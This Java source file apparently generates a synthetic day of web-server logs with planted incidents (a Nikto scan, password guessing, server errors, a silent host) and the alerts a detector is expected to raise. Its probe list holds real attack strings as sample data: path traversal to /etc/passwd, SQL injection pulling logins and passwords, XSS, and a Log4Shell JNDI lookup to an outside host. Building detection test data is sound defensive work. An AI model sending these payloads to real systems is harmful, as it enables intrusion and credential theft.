package io.tocsin.demo;

import io.tocsin.demo.WebEvents.Request;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;

/** What goes wrong with the web servers in a day. */
final class WebIncidents {
    private static final List<Request> PROBES = List.of(
            new Request("GET", "/../../../../etc/passwd", 400, 5),
            new Request("GET", "/.env", 404, 4),
            new Request("GET", "/.git/config", 404, 4),
            new Request("GET", "/products", "id=1+UNION+SELECT+login,password+FROM+users--", 500, 30),
            new Request("GET", "/search", "q=<script>alert(1)</script>", 200, 40),
            new Request("GET", "/", "x=${jndi:ldap://203.0.113.50/a}", 200, 20));
    private static final List<String> ENDINGS = List.of("php", "bak", "zip", "old", "asp", "cgi");

    private final DeviceLog log;
    private final Draw draw;
    private final Instant start;

    WebIncidents(DeviceLog log, Draw draw, Instant start) {
        this.log = log;
        this.draw = draw;
        this.start = start;
    }

    List<Incident> plant() {
        return List.of(
                silence(at(360), "web-1"),
                loginGuessing(at(785), "198.18.40.12"),
                scanner(at(980), "203.0.113.50"),
                serverErrors(at(1_125), "web-2"));
    }

    /** 600 requests in five minutes, most for pages that are not there, by a tool that says its name. */
    Incident scanner(Instant from, String address) {
        String agent = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)";
        Instant at = from;
        Instant to = from;
        for (int requests = 0; requests < 600; requests++) {
            Request request = draw.chance(0.2)
                    ? draw.from(PROBES)
                    : new Request("GET", "/" + draw.hex(6) + "." + draw.from(ENDINGS), 404, draw.around(4));
            log.add(at, WebEvents.request(draw, "web-3", address, agent, request));
            to = at;
            at = at.plus(draw.seconds(0.3, 0.7));
        }
        Map<String, String> group = Map.of("source.ip", address);
        return new Incident(
                "vulnerability scanner",
                DemoDay.WEB,
                from,
                to,
                group,
                List.of(
                        new ExpectedAlert("web-missing-pages", group),
                        new ExpectedAlert("web-scanner-named", group),
                        new ExpectedAlert("web-attack-attempts", group)));
    }

    /** The database behind one host is gone for ten minutes. */
    Incident serverErrors(Instant from, String host) {
        Instant at = from;
        Instant to = from;
        while (at.isBefore(from.plus(Duration.ofMinutes(10)))) {
            String visitor = "100.64." + draw.between(0, 40) + "." + draw.between(1, 254);
            Request request =
                    new Request("GET", "/api/v1/orders", draw.from(List.of(500, 502, 503)), draw.around(4_000));
            log.add(at, WebEvents.request(draw, host, visitor, draw.favouring(WebEvents.BROWSERS), request));
            to = at;
            at = at.plus(draw.seconds(0.6, 2.4));
        }
        Map<String, String> group = Map.of("host.name", host);
        return new Incident(
                "server errors on " + host,
                DemoDay.WEB,
                from,
                to,
                group,
                List.of(new ExpectedAlert("web-server-errors", group)));
    }

    /** 45 minutes without a request. */
    Incident silence(Instant from, String host) {
        Instant to = from.plus(Duration.ofMinutes(45));
        log.silence("host.name", host, from, to);
        Map<String, String> group = Map.of("host.name", host);
        return new Incident(
                "silence of " + host,
                DemoDay.WEB,
                from,
                to,
                group,
                List.of(new ExpectedAlert("web-host-silent", group)));
    }

    /** A list of stolen passwords, one request after the other. */
    Incident loginGuessing(Instant from, String address) {
        Instant at = from;
        Instant to = from;
        for (int tries = 0; tries < 160; tries++) {
            Request request = new Request("POST", "/login", 401, draw.around(110));
            log.add(at, WebEvents.request(draw, "web-1", address, "python-requests/2.32.5", request));
            to = at;
            at = at.plus(draw.seconds(1, 4));
        }
        Map<String, String> group = Map.of("source.ip", address);
        return new Incident(
                "password guessing at the log-in page",
                DemoDay.WEB,
                from,
                to,
                group,
                List.of(new ExpectedAlert("web-login-guessing", group)));
    }

    private Instant at(int minute) {
        return start.plus(Duration.ofMinutes(minute));
    }
}
